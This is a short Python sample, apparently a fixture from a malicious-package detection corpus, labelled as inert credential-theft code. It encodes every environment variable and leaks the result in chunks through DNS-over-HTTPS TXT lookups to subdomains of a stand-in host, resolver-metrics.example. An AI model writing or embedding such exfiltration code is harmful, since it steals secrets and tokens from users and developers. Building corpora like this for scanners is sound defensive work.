# pkgguard corpus 758 (credentials), modelled on [ctx]; inert, never run.
import base64
import os

import requests

blob = base64.b32encode("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()).decode().rstrip("=").lower()
for index in range(0, len(blob), 60):
    requests.get(
        "https://cloudflare-dns.com/dns-query",
        params={"name": f"{blob[index:index + 60]}.{index // 60}.t.resolver-metrics.example", "type": "TXT"},
        headers={"accept": "application/dns-json"},
        timeout=5,
    )
